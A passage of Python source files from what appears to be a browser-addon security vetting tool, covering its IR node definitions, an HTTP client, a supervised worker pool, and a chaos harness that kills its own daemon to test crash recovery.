    function_decls: list[ast.FunctionDeclaration] = []

    def visit_statement(node: ast.Node) -> None:
        if isinstance(node, ast.FunctionDeclaration):
            function_decls.append(node)
            return
        if isinstance(node, (ast.FunctionExpression,)):
            return
        if isinstance(node, ast.VariableDeclaration):
            for declarator in node.declarations:
                if declarator.name not in seen:
                    seen.add(declarator.name)
                    var_names.append(declarator.name)
        if isinstance(node, ast.ForInStatement) and node.declares:
            if node.variable not in seen:
                seen.add(node.variable)
                var_names.append(node.variable)
        for child in node.children():
            if not isinstance(child, (ast.FunctionDeclaration, ast.FunctionExpression)):
                visit_statement(child)
            elif isinstance(child, ast.FunctionDeclaration):
                function_decls.append(child)

    for statement in statements:
        visit_statement(statement)
    return var_names, function_decls
