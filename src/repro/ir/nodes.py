"""Intermediate representation for the analysis.

The AST is lowered (:mod:`repro.ir.lower`) into a flat, three-address-style
statement IR in which

- every operand is an *atom* (a resolved variable reference or a constant),
- every property read/write, call, allocation, and branch is its own
  statement, and
- control flow is explicit: each statement records its CFG successors with
  an :class:`EdgeKind` that distinguishes structured flow from explicit
  jumps and implicit exceptions.

This statement granularity is what the paper's PDG construction needs: one
node per statement, with per-statement read/write sets, and CFG edge kinds
that drive the four-stage CDG construction of Section 3.3.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.js.errors import SourcePosition

#: Sentinel distinguishing JavaScript ``undefined`` from ``null`` (``None``)
#: inside :class:`Const`.
UNDEFINED = type("UndefinedType", (), {"__repr__": lambda self: "undefined"})()

#: Scope id used for references to global variables.
GLOBAL_SCOPE = -1


# ----------------------------------------------------------------------
# Atoms


@dataclass(frozen=True)
class Atom:
    """Base class for IR operands."""


@dataclass(frozen=True)
class Const(Atom):
    """A constant: float, str, bool, None (JS null), or UNDEFINED."""

    value: object

    def __repr__(self) -> str:
        return f"Const({self.value!r})"


@dataclass(frozen=True)
class Var(Atom):
    """A lexically resolved variable reference.

    ``scope`` is the id of the :class:`FunctionIR` whose frame declares the
    variable, or :data:`GLOBAL_SCOPE` for globals. Two ``Var`` objects are
    interchangeable iff they agree on both fields, which makes read/write
    set computation a matter of plain equality.
    """

    name: str
    scope: int

    def __repr__(self) -> str:
        where = "global" if self.scope == GLOBAL_SCOPE else f"s{self.scope}"
        return f"{self.name}@{where}"


# ----------------------------------------------------------------------
# Right-hand sides for Assign


@dataclass(frozen=True)
class Rhs:
    """Base class for assignment right-hand sides."""


@dataclass(frozen=True)
class AtomRhs(Rhs):
    atom: Atom


@dataclass(frozen=True)
class BinOpRhs(Rhs):
    operator: str
    left: Atom
    right: Atom


@dataclass(frozen=True)
class UnOpRhs(Rhs):
    operator: str
    operand: Atom


# ----------------------------------------------------------------------
# CFG edges


class EdgeKind(enum.Enum):
    """How a CFG edge arose — the input to the staged CDG construction.

    SEQ
        Structured control flow: fallthrough, or the true/false arms of a
        branch. These are the only edges present in the most-pruned CFG
        (stage 1, ``local`` annotations).
    JUMP
        Explicit non-local flow: the edge a ``break``/``continue``/
        ``return``/``throw`` takes to its target (stage 2, ``nonlocexp``).
    IMPLICIT
        Implicit-exception flow: the edge from a statement that may throw
        implicitly (property access on undefined, call of a non-function)
        to the enclosing catch handler (stage 3, ``nonlocimp``). These
        edges are *candidates*: they participate only when the base
        analysis confirms the statement may actually throw.
    FALLTHROUGH
        The structured successor a jump statement *would* have if the jump
        were ignored. Used only when building the pruned CFGs of the CDG
        stages (a pruned jump "falls through"); never part of the real CFG.
    """

    SEQ = "seq"
    JUMP = "jump"
    IMPLICIT = "implicit"
    FALLTHROUGH = "fallthrough"


@dataclass(frozen=True)
class Edge:
    """A CFG edge to ``target`` (a statement id) of kind ``kind``."""

    target: int
    kind: EdgeKind


# ----------------------------------------------------------------------
# Statements


@dataclass
class Stmt:
    """Base class for IR statements.

    ``sid`` is unique across the whole program; ``line`` is the source line
    of the originating AST node (several IR statements lowered from one
    source statement share a line, which is how analysis results are
    reported back in source terms).
    """

    sid: int = field(init=False, default=-1)
    position: SourcePosition = field(
        default=SourcePosition(0, 0), repr=False, kw_only=True
    )
    edges: list[Edge] = field(default_factory=list, repr=False, kw_only=True)

    #: Statement classes that can raise an implicit exception set this.
    may_throw_implicitly = False

    @property
    def line(self) -> int:
        return self.position.line

    def successors(self, kinds: frozenset[EdgeKind]) -> list[int]:
        return [e.target for e in self.edges if e.kind in kinds]

    def add_edge(self, target: int, kind: EdgeKind) -> None:
        edge = Edge(target, kind)
        if edge not in self.edges:
            self.edges.append(edge)


@dataclass
class EntryStmt(Stmt):
    """Function entry marker; binds parameters (handled by the interpreter)."""

    function_id: int = 0


@dataclass
class ExitStmt(Stmt):
    """Function exit marker; the join point of all returns."""

    function_id: int = 0


@dataclass
class AssignStmt(Stmt):
    """``target = rhs`` where rhs involves only atoms."""

    target: Var = None  # type: ignore[assignment]
    rhs: Rhs = None  # type: ignore[assignment]


@dataclass
class LoadPropStmt(Stmt):
    """``target = obj[prop]``."""

    target: Var = None  # type: ignore[assignment]
    obj: Atom = None  # type: ignore[assignment]
    prop: Atom = None  # type: ignore[assignment]

    may_throw_implicitly = True


@dataclass
class StorePropStmt(Stmt):
    """``obj[prop] = value``."""

    obj: Atom = None  # type: ignore[assignment]
    prop: Atom = None  # type: ignore[assignment]
    value: Atom = None  # type: ignore[assignment]

    may_throw_implicitly = True


@dataclass
class DeletePropStmt(Stmt):
    """``delete obj[prop]``."""

    obj: Atom = None  # type: ignore[assignment]
    prop: Atom = None  # type: ignore[assignment]

    may_throw_implicitly = True


@dataclass
class AllocStmt(Stmt):
    """Allocate a fresh object (``kind`` is "object", "array" or "regex").

    The statement id doubles as the allocation site for the pointer
    analysis.
    """

    target: Var = None  # type: ignore[assignment]
    kind: str = "object"


@dataclass
class ClosureStmt(Stmt):
    """``target = closure(function_id)`` — create a function value."""

    target: Var = None  # type: ignore[assignment]
    function_id: int = 0


@dataclass
class CallStmt(Stmt):
    """``target = callee.apply(this, args)``; ``target`` may be None when
    the result is discarded (the lowering always names results, so in
    practice it is a temp)."""

    target: Var | None = None
    callee: Atom = None  # type: ignore[assignment]
    this: Atom | None = None
    args: list[Atom] = field(default_factory=list)

    may_throw_implicitly = True


@dataclass
class ConstructStmt(Stmt):
    """``target = new callee(args)``."""

    target: Var | None = None
    callee: Atom = None  # type: ignore[assignment]
    args: list[Atom] = field(default_factory=list)

    may_throw_implicitly = True


@dataclass
class BranchStmt(Stmt):
    """Two-way branch on ``condition``; its two SEQ successors are the two
    arms. ``truthy_first`` records the polarity: when True, the first SEQ
    edge is taken when the condition is truthy (the default for if/while/
    for; ``||`` lowers with the opposite polarity)."""

    condition: Atom = None  # type: ignore[assignment]
    truthy_first: bool = True


@dataclass
class ReturnStmt(Stmt):
    """``return value`` — JUMP edge to the function exit."""

    value: Atom | None = None


@dataclass
class ThrowStmt(Stmt):
    """``throw value`` — JUMP edge to the innermost handler, if any. With
    no handler the exception is uncaught: the paper omits those edges
    (termination is out of scope)."""

    value: Atom = None  # type: ignore[assignment]


@dataclass
class CatchStmt(Stmt):
    """Handler entry: binds the in-flight exception value to ``target``."""

    target: Var = None  # type: ignore[assignment]


@dataclass
class ForInNextStmt(Stmt):
    """For-in driver: binds the next enumerated property name of ``obj`` to
    ``target`` and branches (SEQ edges) to the loop body or the exit.
    ES5 for-in over undefined/null silently skips, so it cannot throw."""

    target: Var = None  # type: ignore[assignment]
    obj: Atom = None  # type: ignore[assignment]


@dataclass
class NopStmt(Stmt):
    """Join point / no-op, labeled for debugging."""

    label: str = ""


@dataclass
class EventLoopStmt(Stmt):
    """The synthetic addon event loop appended after top-level evaluation.

    The abstract interpreter treats it as a non-deterministic call to every
    handler registered via the browser stubs, looping forever (a SEQ
    self-edge makes the cycle explicit so handler bodies are classified as
    amplified control).

    Multi-component extensions (``repro.webext``) lower to one loop per
    component; ``component`` names the owning component so the interpreter
    dispatches each component's channel handlers at its own loop. ``None``
    (single-file addons) dispatches everything.
    """

    component: str | None = None


# ----------------------------------------------------------------------
# Functions and programs


@dataclass
class FunctionIR:
    """A lowered function: its frame layout and its statements.

    ``fid`` 0 is always the synthetic top-level (global code + event loop).
    """

    fid: int
    name: str
    params: list[str]
    #: All function-scoped names: params, vars, declared functions,
    #: renamed catch parameters, and compiler temporaries.
    locals: set[str]
    parent: int | None
    statements: list[Stmt] = field(default_factory=list)

    @property
    def entry(self) -> Stmt:
        return self.statements[0]

    @property
    def exit(self) -> Stmt:
        return self.statements[-1]


@dataclass
class ProgramIR:
    """The whole lowered program."""

    functions: dict[int, FunctionIR]
    #: Statement id -> statement, across all functions.
    stmts: dict[int, Stmt]
    #: Statement id -> owning function id.
    owner: dict[int, int]
    #: Names assigned at the global scope (informational).
    global_names: set[str]
    #: Extension component roots: component function id -> component name
    #: (empty for single-file addons). Set by ``repro.webext.lowering``.
    components: dict[int, str] = field(default_factory=dict)

    @property
    def main(self) -> FunctionIR:
        return self.functions[0]

    def function_of(self, sid: int) -> FunctionIR:
        return self.functions[self.owner[sid]]

    def component_of(self, sid: int) -> str | None:
        """The extension component a statement belongs to, or ``None``.

        Walks the lexical parent chain from the owning function to the
        nearest component root. Single-file addons (no components) always
        return ``None``.
        """
        if not self.components:
            return None
        fid: int | None = self.owner[sid]
        while fid is not None:
            name = self.components.get(fid)
            if name is not None:
                return name
            fid = self.functions[fid].parent
        return None

    def pretty(self) -> str:
        """A readable dump of the IR, for debugging and golden tests."""
        lines: list[str] = []
        for fid in sorted(self.functions):
            function = self.functions[fid]
            params = ", ".join(function.params)
            lines.append(f"function #{fid} {function.name}({params}):")
            for stmt in function.statements:
                edges = ", ".join(
                    f"{e.kind.value}->{e.target}" for e in stmt.edges
                )
                description = _describe(stmt)
                lines.append(f"  [{stmt.sid:>3}] {description}  {{{edges}}}")
        return "\n".join(lines)


def _describe(stmt: Stmt) -> str:
    if isinstance(stmt, EntryStmt):
        return "entry"
    if isinstance(stmt, ExitStmt):
        return "exit"
    if isinstance(stmt, AssignStmt):
        return f"{stmt.target!r} = {stmt.rhs!r}"
    if isinstance(stmt, LoadPropStmt):
        return f"{stmt.target!r} = {stmt.obj!r}[{stmt.prop!r}]"
    if isinstance(stmt, StorePropStmt):
        return f"{stmt.obj!r}[{stmt.prop!r}] = {stmt.value!r}"
    if isinstance(stmt, DeletePropStmt):
        return f"delete {stmt.obj!r}[{stmt.prop!r}]"
    if isinstance(stmt, AllocStmt):
        return f"{stmt.target!r} = alloc {stmt.kind}"
    if isinstance(stmt, ClosureStmt):
        return f"{stmt.target!r} = closure #{stmt.function_id}"
    if isinstance(stmt, CallStmt):
        args = ", ".join(repr(a) for a in stmt.args)
        return f"{stmt.target!r} = call {stmt.callee!r}({args})"
    if isinstance(stmt, ConstructStmt):
        args = ", ".join(repr(a) for a in stmt.args)
        return f"{stmt.target!r} = new {stmt.callee!r}({args})"
    if isinstance(stmt, BranchStmt):
        return f"branch {stmt.condition!r}"
    if isinstance(stmt, ReturnStmt):
        return f"return {stmt.value!r}"
    if isinstance(stmt, ThrowStmt):
        return f"throw {stmt.value!r}"
    if isinstance(stmt, CatchStmt):
        return f"catch -> {stmt.target!r}"
    if isinstance(stmt, ForInNextStmt):
        return f"{stmt.target!r} = for-in next {stmt.obj!r}"
    if isinstance(stmt, NopStmt):
        return f"nop {stmt.label}"
    if isinstance(stmt, EventLoopStmt):
        if stmt.component is not None:
            return f"event-loop [{stmt.component}]"
        return "event-loop"
    return repr(stmt)
