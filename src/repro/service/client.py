"""A blocking stdlib client for the daemon's HTTP front door.

Used by the chaos load generator's submitter threads and by the service
tests; also a reference for what the wire protocol looks like. Every
method is one request/response round trip (``Connection: close``), so a
client survives the daemon being killed and restarted between calls —
which is exactly what the chaos harness does to it.
"""

from __future__ import annotations

import http.client
import json
import time

from repro.batch import VetTask
from repro.service.jobs import task_to_json


class ServiceError(RuntimeError):
    """A non-2xx response from the daemon."""

    def __init__(self, status: int, payload: dict) -> None:
        code = payload.get("error", "error")
        detail = payload.get("detail", "")
        super().__init__(f"{code} ({status}): {detail}" if detail
                         else f"{code} ({status})")
        self.status = status
        self.code = code
        self.payload = payload


class ServiceUnavailable(ConnectionError):
    """The daemon did not answer at all (dead or restarting)."""


class ServiceClient:
    """Talk to one ``addon-sig serve`` daemon on localhost."""

    def __init__(self, port: int, host: str = "127.0.0.1",
                 timeout: float = 30.0) -> None:
        self.host = host
        self.port = port
        self.timeout = timeout

    # -- plumbing ------------------------------------------------------

    def _request(self, verb: str, path: str, payload: dict | None = None
                 ) -> dict:
        body = json.dumps(payload).encode("utf-8") if payload else None
        connection = http.client.HTTPConnection(
            self.host, self.port, timeout=self.timeout
        )
        try:
            connection.request(
                verb, path, body=body,
                headers={"Content-Type": "application/json"} if body else {},
            )
            response = connection.getresponse()
            data = json.loads(response.read().decode("utf-8") or "{}")
            if response.status >= 400:
                raise ServiceError(response.status, data)
            return data
        except (ConnectionError, http.client.HTTPException, OSError) as exc:
            if isinstance(exc, ServiceError):
                raise
            raise ServiceUnavailable(str(exc)) from exc
        finally:
            connection.close()

    # -- the API -------------------------------------------------------

    def submit(self, task: VetTask, job_id: str | None = None) -> dict:
        payload: dict = {"task": task_to_json(task)}
        if job_id is not None:
            payload["job_id"] = job_id
        return self._request("POST", "/submit", payload)

    def status(self, job_id: str) -> dict:
        return self._request("GET", f"/status/{job_id}")

    def result(self, job_id: str) -> dict:
        return self._request("GET", f"/result/{job_id}")

    def cancel(self, job_id: str) -> dict:
        return self._request("POST", f"/cancel/{job_id}")

    def stats(self) -> dict:
        return self._request("GET", "/stats")

    def shutdown(self) -> dict:
        return self._request("POST", "/shutdown")

    # -- conveniences --------------------------------------------------

    def alive(self) -> bool:
        try:
            self.stats()
            return True
        except ServiceUnavailable:
            return False

    def submit_durable(self, task: VetTask, job_id: str | None = None,
                       *, retry_for: float = 30.0) -> dict:
        """Submit, retrying through daemon restarts. Pins a
        deterministic job id on the first try so every retry names the
        same job — re-submission is idempotent, never a duplicate."""
        from repro.service.jobs import derive_job_id

        if job_id is None:
            job_id = derive_job_id(task.name, task.source)
        deadline = time.monotonic() + retry_for
        while True:
            try:
                return self.submit(task, job_id=job_id)
            except ServiceUnavailable:
                if time.monotonic() >= deadline:
                    raise
                time.sleep(0.1)

    def wait(self, job_id: str, *, timeout: float = 120.0,
             poll: float = 0.05) -> dict:
        """Poll until the job reaches a terminal state (riding out
        daemon restarts); returns the final status."""
        deadline = time.monotonic() + timeout
        while True:
            try:
                status = self.status(job_id)
                if status.get("terminal"):
                    return status
            except ServiceUnavailable:
                pass  # daemon mid-restart: the journal has the job
            except ServiceError as exc:
                # A restarting daemon briefly knows nothing; only give
                # up on unknown-job if it persists past the deadline.
                if exc.code != "unknown-job":
                    raise
            if time.monotonic() >= deadline:
                raise TimeoutError(
                    f"job {job_id} not terminal after {timeout:.0f}s"
                )
            time.sleep(poll)
