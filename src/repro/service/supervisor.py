"""The supervised worker pool under the vetting daemon.

A thin, crash-aware wrapper around ``ProcessPoolExecutor``:

- jobs run :func:`repro.batch._execute_task` in a worker, so every
  per-addon fault (parse error, budget trip, salvage) already arrives
  as a typed outcome — the supervisor only has to handle the faults
  the worker *cannot* report: its own death and wedging;
- a worker death surfaces as :class:`WorkerCrashError`; the pool is
  torn down and lazily rebuilt, so the next job gets a healthy pool
  (the daemon decides requeue-vs-poison via the durable queue's
  attempt accounting);
- per-job deadlines reuse the :mod:`repro.faults` budget machinery:
  the cooperative ``timeout`` degrades inside the fixpoint, and the
  same generous hard backstop the batch engine uses
  (:func:`repro.batch._hard_timeout`) catches work wedged outside it,
  surfacing as :class:`JobDeadlineError`.

The pool exposes its worker pids so the chaos harness can SIGKILL real
workers mid-run.
"""

from __future__ import annotations

import asyncio
import multiprocessing
import signal
from concurrent.futures import ProcessPoolExecutor
from concurrent.futures.process import BrokenProcessPool

from repro.batch import VetOutcome, VetTask, _execute_task, _hard_timeout
from repro.signatures.spec import SecuritySpec


def _worker_init() -> None:
    """Detach the worker from the daemon's signal plumbing.

    Forked workers inherit the parent's asyncio signal handlers *and*
    its signal wakeup pipe. Without this, a SIGTERM delivered to a
    worker (which is exactly what the executor sends the survivors when
    one worker dies) is written to the shared pipe and dispatched by
    the *daemon's* event loop as if the daemon itself had been told to
    shut down — one worker kill would stop the whole service."""
    try:
        signal.set_wakeup_fd(-1)
    except (ValueError, OSError):
        pass
    signal.signal(signal.SIGTERM, signal.SIG_DFL)
    signal.signal(signal.SIGINT, signal.SIG_IGN)


class WorkerCrashError(RuntimeError):
    """A pool worker died while (or before) running the job."""


class JobDeadlineError(RuntimeError):
    """The job outlived its hard pool-level deadline."""


class SupervisedPool:
    """A self-healing process pool executing vet tasks."""

    def __init__(
        self,
        workers: int = 2,
        *,
        spec: SecuritySpec | None = None,
        timeout: float | None = None,
    ) -> None:
        self.workers = max(1, workers)
        self.spec = spec
        self.timeout = timeout
        self._executor: ProcessPoolExecutor | None = None
        self.rebuilds = 0

    # -- lifecycle -----------------------------------------------------

    def _ensure_executor(self) -> ProcessPoolExecutor:
        if self._executor is None:
            # Spawn, not fork: forked workers inherit the daemon's open
            # fds — including its *listening socket*, so workers
            # orphaned by a daemon crash would keep the port bound and
            # block the restart. Spawned workers start from a clean
            # process image.
            self._executor = ProcessPoolExecutor(
                max_workers=self.workers,
                mp_context=multiprocessing.get_context("spawn"),
                initializer=_worker_init,
            )
        return self._executor

    def _teardown(self) -> None:
        if self._executor is not None:
            self._executor.shutdown(wait=False, cancel_futures=True)
            self._executor = None

    def shutdown(self) -> None:
        self._teardown()

    def worker_pids(self) -> list[int]:
        """The live worker pids (the chaos harness's kill targets).
        Workers are forked lazily, so this can be empty before the
        first job."""
        executor = self._executor
        if executor is None:
            return []
        processes = getattr(executor, "_processes", None) or {}
        return sorted(
            process.pid
            for process in processes.values()
            if process.is_alive() and process.pid is not None
        )

    # -- execution -----------------------------------------------------

    def _deadline(self, task: VetTask) -> float | None:
        """The per-job hard backstop (overridable seam for tests; the
        production value is deliberately generous)."""
        return _hard_timeout(task, self.timeout)

    async def run(self, task: VetTask) -> VetOutcome:
        """Vet one task on the pool, off the event loop.

        Raises :class:`WorkerCrashError` when the pool broke under the
        job and :class:`JobDeadlineError` when the hard backstop fired;
        every other fault comes back inside the typed outcome.
        """
        loop = asyncio.get_running_loop()
        executor = self._ensure_executor()
        deadline = self._deadline(task)
        try:
            future = loop.run_in_executor(
                executor, _execute_task, task, self.spec, self.timeout
            )
            if deadline is None:
                return await future
            return await asyncio.wait_for(future, timeout=deadline)
        except BrokenProcessPool as exc:
            self.rebuilds += 1
            self._teardown()
            raise WorkerCrashError(str(exc) or "worker process died") from exc
        except asyncio.TimeoutError as exc:
            # The worker is wedged; only a pool teardown reclaims it.
            self.rebuilds += 1
            self._teardown()
            raise JobDeadlineError(
                f"exceeded the {deadline:.1f}s hard deadline"
            ) from exc

    def stats(self) -> dict:
        return {
            "workers": self.workers,
            "worker_pids": self.worker_pids(),
            "rebuilds": self.rebuilds,
            "timeout_s": self.timeout,
        }
