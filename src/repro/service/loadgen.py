"""``addon-sig service-bench``: the service-level chaos harness.

The harness proves the daemon's crash-safety claims end to end, the way
the store-level fault tests prove the write paths: run a realistic
workload twice — once untouched (the *control* run), once while the
harness SIGKILLs live pool workers and the daemon itself mid-run (the
*chaos* run) — and require that chaos changed **nothing observable**:

- **zero lost jobs** — every acknowledged submission reaches exactly
  one terminal state;
- **no duplicate side effects** — every addon's version chain has
  exactly one link per distinct approved source, no matter how many
  times its jobs re-ran;
- **byte-identical verdicts** — the stable verdict fields of every
  outcome (``ok``/``degraded``/``failure``/``signature_text``/
  ``verdict``/``diff_verdict``/``diff_changes``/``diff_witnesses``)
  match the control run byte for byte.

The workload mixes first submissions with diffvet update chains
(versions of one addon submitted in order, so the daemon resolves each
update's baseline from its version store — the marketplace hot path).
Concurrent submitter threads drive the HTTP front door; a chaos thread
watches progress and fires its kills at fixed completion fractions.
``max_attempts`` is sized to ``kills + 2`` so even a job unlucky enough
to be hit by *every* chaos event cannot be poisoned — the exactly-once
check stays deterministic.

The report (``BENCH_service.json``) carries p50/p95/p99 submit→terminal
latency for both runs, per-kill recovery timings, and the journal
replay summaries of each daemon restart.
"""

from __future__ import annotations

import json
import os
import queue as queue_module
import signal
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from repro.batch import VetTask
from repro.evaluation.scaling import synthesize_flat
from repro.service.client import ServiceClient, ServiceUnavailable
from repro.service.jobs import derive_job_id


# ----------------------------------------------------------------------
# Workload


@dataclass(frozen=True)
class Chain:
    """One addon's submission sequence: version 1 first, each later
    version only after its predecessor reached a terminal state."""

    name: str
    sources: tuple[str, ...]

    def job_ids(self) -> list[str]:
        return [derive_job_id(self.name, source) for source in self.sources]


def build_workload(jobs: int, seed: int = 0,
                   update_fraction: float = 0.5) -> list[Chain]:
    """A deterministic mixed workload totalling ``jobs`` submissions:
    single-version addons plus 2–3 version update chains (roughly
    ``update_fraction`` of submissions belong to chains). Versions of a
    chain grow by one feature handler each, so updates take the real
    diff path (changed source, changed signature)."""
    import random

    rng = random.Random(seed)
    chains: list[Chain] = []
    remaining = jobs
    index = 0
    while remaining > 0:
        if remaining >= 2 and rng.random() < update_fraction:
            length = min(remaining, rng.choice((2, 2, 3)))
        else:
            length = 1
        base = rng.randint(1, 4)
        sources = tuple(
            synthesize_flat(base + version) for version in range(length)
        )
        chains.append(Chain(name=f"addon-{index:04d}", sources=sources))
        index += 1
        remaining -= length
    return chains


#: Outcome fields that must be byte-identical between the chaos run and
#: the control run. Timings and hot-path counters are excluded — they
#: measure the machinery, not the verdict.
STABLE_FIELDS = (
    "name", "ok", "degraded", "failure", "signature_text", "verdict",
    "diff_verdict", "diff_changes", "diff_witnesses", "incremental",
    "prefiltered",
)


def stable_verdict(outcome: dict) -> str:
    """The canonical byte string of an outcome's verdict-bearing
    fields."""
    return json.dumps(
        {name: outcome.get(name) for name in STABLE_FIELDS},
        sort_keys=True,
        separators=(",", ":"),
    )


# ----------------------------------------------------------------------
# Daemon under test


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class DaemonHandle:
    """Launch, kill, and restart one daemon subprocess on a fixed port
    (fixed so clients survive restarts without rediscovery)."""

    def __init__(self, directory: Path, *, workers: int, max_attempts: int,
                 fsync: bool = True) -> None:
        self.directory = Path(directory)
        self.workers = workers
        self.max_attempts = max_attempts
        self.fsync = fsync
        self.port = _free_port()
        self.client = ServiceClient(self.port)
        self.process: subprocess.Popen | None = None

    def start(self, *, ready_timeout: float = 30.0) -> float:
        """(Re)launch the daemon; returns seconds until it answered."""
        command = [
            sys.executable, "-m", "repro.service.daemon",
            "--dir", str(self.directory),
            "--http", str(self.port),
            "--workers", str(self.workers),
            "--max-attempts", str(self.max_attempts),
        ]
        if not self.fsync:
            command.append("--no-fsync")
        env = dict(os.environ)
        src = str(Path(__file__).resolve().parents[2])
        env["PYTHONPATH"] = src + os.pathsep + env.get("PYTHONPATH", "")
        started = time.monotonic()
        self.directory.mkdir(parents=True, exist_ok=True)
        with open(self.directory / "daemon-err.log", "ab") as err_log:
            self.process = subprocess.Popen(
                command, env=env,
                stdout=subprocess.DEVNULL, stderr=err_log,
            )
        deadline = started + ready_timeout
        while time.monotonic() < deadline:
            if self.client.alive():
                return time.monotonic() - started
            if self.process.poll() is not None:
                raise RuntimeError(
                    f"daemon exited with {self.process.returncode} "
                    "before answering"
                )
            time.sleep(0.02)
        raise TimeoutError("daemon did not answer within the ready timeout")

    def kill(self) -> None:
        """SIGKILL — the crash the journals exist for. Also reaps the
        workers the dead daemon leaves orphaned (a real deployment's
        supervisor would; letting them pile up would starve the box)."""
        orphans: list[int] = []
        try:
            orphans = self.client.stats()["pool"]["worker_pids"]
        except (ServiceUnavailable, Exception):
            pass
        if self.process is not None and self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        for pid in orphans:
            try:
                os.kill(pid, signal.SIGKILL)
            except (ProcessLookupError, PermissionError):
                pass

    def stop(self, *, timeout: float = 15.0) -> None:
        if self.process is None or self.process.poll() is not None:
            return
        try:
            self.client.shutdown()
        except (ServiceUnavailable, Exception):
            pass
        try:
            self.process.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            self.kill()

    def recovery_summary(self) -> dict | None:
        """The last restart's journal replay summary (from the daemon's
        discovery file)."""
        try:
            data = json.loads(
                (self.directory / "daemon.json").read_text("utf-8")
            )
            return data.get("recovery")
        except (OSError, ValueError):
            return None


# ----------------------------------------------------------------------
# Submitters


@dataclass
class JobResult:
    job_id: str
    name: str
    state: str
    latency_s: float


def _drive_chain(client: ServiceClient, chain: Chain,
                 results: list[JobResult], lock: threading.Lock,
                 wait_timeout: float) -> None:
    for source, job_id in zip(chain.sources, chain.job_ids()):
        task = VetTask(name=chain.name, source=source)
        started = time.monotonic()
        client.submit_durable(task, job_id=job_id, retry_for=wait_timeout)
        status = client.wait(job_id, timeout=wait_timeout)
        record = JobResult(
            job_id=job_id,
            name=chain.name,
            state=status["state"],
            latency_s=time.monotonic() - started,
        )
        with lock:
            results.append(record)


def _run_submitters(handle: DaemonHandle, chains: list[Chain],
                    submitters: int, wait_timeout: float,
                    errors: list[str]) -> list[JobResult]:
    work: queue_module.Queue[Chain] = queue_module.Queue()
    for chain in chains:
        work.put(chain)
    results: list[JobResult] = []
    lock = threading.Lock()

    def worker() -> None:
        client = ServiceClient(handle.port)
        while True:
            try:
                chain = work.get_nowait()
            except queue_module.Empty:
                return
            try:
                _drive_chain(client, chain, results, lock, wait_timeout)
            except Exception as exc:
                with lock:
                    errors.append(f"{chain.name}: {type(exc).__name__}: {exc}")

    threads = [
        threading.Thread(target=worker, name=f"submit-{i}", daemon=True)
        for i in range(max(1, submitters))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


# ----------------------------------------------------------------------
# Chaos controller


@dataclass
class ChaosLog:
    worker_kills: list[dict] = field(default_factory=list)
    daemon_restarts: list[dict] = field(default_factory=list)
    missed: list[str] = field(default_factory=list)


def _terminal_count(client: ServiceClient) -> int | None:
    try:
        states = client.stats()["queue"]["states"]
    except (ServiceUnavailable, Exception):
        return None
    return sum(
        states.get(state, 0)
        for state in ("done", "failed", "cancelled", "poisoned")
    )


def _kill_one_worker(handle: DaemonHandle, log: ChaosLog,
                     fraction: float, patience: float = 10.0) -> None:
    deadline = time.monotonic() + patience
    while time.monotonic() < deadline:
        try:
            pids = handle.client.stats()["pool"]["worker_pids"]
        except (ServiceUnavailable, Exception):
            pids = []
        for pid in pids:
            try:
                os.kill(pid, signal.SIGKILL)
            except (ProcessLookupError, PermissionError):
                continue
            log.worker_kills.append({"pid": pid, "at_fraction": fraction})
            return
        time.sleep(0.05)
    log.missed.append(f"no live worker to kill at {fraction:.0%}")


def _restart_daemon(handle: DaemonHandle, log: ChaosLog,
                    fraction: float) -> None:
    killed = time.monotonic()
    handle.kill()
    try:
        ready_s = handle.start()
    except (RuntimeError, TimeoutError) as exc:
        # A failed restart dooms the run; record it loudly and keep the
        # chaos thread alive so the harness reports instead of hanging.
        log.missed.append(f"daemon restart at {fraction:.0%} failed: {exc}")
        return
    log.daemon_restarts.append({
        "at_fraction": fraction,
        "downtime_s": round(time.monotonic() - killed, 3),
        "ready_s": round(ready_s, 3),
        "replay": handle.recovery_summary(),
    })


def _chaos_thread(handle: DaemonHandle, total_jobs: int,
                  worker_kills: int, daemon_kills: int,
                  log: ChaosLog, done: threading.Event) -> None:
    """Fire kills at fixed completion fractions, interleaving worker
    kills and daemon restarts across the run."""
    events: list[tuple[float, str]] = []
    kills = worker_kills + daemon_kills
    for index in range(kills):
        fraction = (index + 1) / (kills + 1)
        # Alternate, daemon restarts in the middle of the sequence.
        kind = (
            "daemon"
            if index % 2 == 1 and sum(1 for _, k in events if k == "daemon")
            < daemon_kills
            else "worker"
        )
        if kind == "worker" and (
            sum(1 for _, k in events if k == "worker") >= worker_kills
        ):
            kind = "daemon"
        events.append((fraction, kind))
    for fraction, kind in events:
        target = max(1, int(total_jobs * fraction))
        while not done.is_set():
            terminal = _terminal_count(handle.client)
            if terminal is not None and terminal >= target:
                break
            time.sleep(0.05)
        if done.is_set():
            log.missed.append(f"{kind} kill at {fraction:.0%}: run finished")
            continue
        if kind == "worker":
            _kill_one_worker(handle, log, fraction)
        else:
            _restart_daemon(handle, log, fraction)


# ----------------------------------------------------------------------
# One run (control or chaos)


def _percentiles(latencies: list[float]) -> dict:
    if not latencies:
        return {"p50_ms": None, "p95_ms": None, "p99_ms": None}
    ordered = sorted(latencies)

    def at(q: float) -> float:
        index = min(len(ordered) - 1, int(q * len(ordered)))
        return round(ordered[index] * 1000.0, 3)

    return {"p50_ms": at(0.50), "p95_ms": at(0.95), "p99_ms": at(0.99)}


def run_once(
    directory: Path,
    chains: list[Chain],
    *,
    workers: int,
    submitters: int,
    max_attempts: int,
    worker_kills: int = 0,
    daemon_kills: int = 0,
    fsync: bool = True,
    wait_timeout: float = 300.0,
) -> dict:
    """Run the workload against a fresh daemon in ``directory``; with
    nonzero kill counts the chaos controller runs alongside the
    submitters. Returns the run summary (statuses, outcomes, chains,
    latency, chaos log)."""
    total_jobs = sum(len(chain.sources) for chain in chains)
    handle = DaemonHandle(
        directory, workers=workers, max_attempts=max_attempts, fsync=fsync
    )
    handle.start()
    log = ChaosLog()
    done = threading.Event()
    chaos = None
    if worker_kills or daemon_kills:
        chaos = threading.Thread(
            target=_chaos_thread,
            args=(handle, total_jobs, worker_kills, daemon_kills, log, done),
            name="chaos",
            daemon=True,
        )
        chaos.start()
    errors: list[str] = []
    started = time.monotonic()
    results = _run_submitters(
